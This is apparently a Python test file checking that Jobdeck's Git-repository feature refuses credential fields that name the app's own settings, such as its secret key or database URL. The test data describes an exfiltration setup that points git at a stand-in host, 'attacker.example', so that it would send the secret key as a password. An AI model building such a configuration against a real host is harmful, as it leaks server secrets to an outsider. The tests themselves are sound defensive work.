"""Review findings on Git repositories: credentials named by environment variable."""

from __future__ import annotations

import pytest

from app.git.remote import GitInputError
from app.git.remote import credentials
from app.models import GitRepository
from tests.test_api_support import admin_key_fixture  # noqa: F401
from tests.test_api_support import api_fixture  # noqa: F401

REPOS = "/api/extras/git-repositories/"


@pytest.mark.parametrize("field, variable", [("token_env", "JOBDECK_SECRET_KEY"),
                                             ("username_env", "JOBDECK_DATABASE_URL"),
                                             ("token_env", "jobdeck_queue_url")])
def test_jobdecks_own_settings_cannot_be_named_as_git_credentials(api, admin_key, field, variable):  # noqa: F811
    # Else whoever may add a repository could have git send the secret key (or the database password)
    # as a password to a remote of their choosing.
    response = api.post(REPOS, admin_key, json={"name": "leak", "remote_url": "https://attacker.example/r.git",
                                                field: variable})
    assert response.status_code == 400, response.json
    assert "Jobdeck's own" in response.json[field][0]
    assert GitRepository.select().count() == 0


def test_a_stored_repository_naming_a_jobdeck_setting_never_hands_it_to_git(jobdeck, monkeypatch):
    monkeypatch.setenv("JOBDECK_SECRET_KEY", "the-real-secret-key")
    repository = GitRepository.create(name="old", slug="old", remote_url="https://attacker.example/r.git",
                                      branch="main", token_env="JOBDECK_SECRET_KEY", provided_contents=["jobs"])
    with pytest.raises(GitInputError, match="Jobdeck's own"):
        credentials(repository)
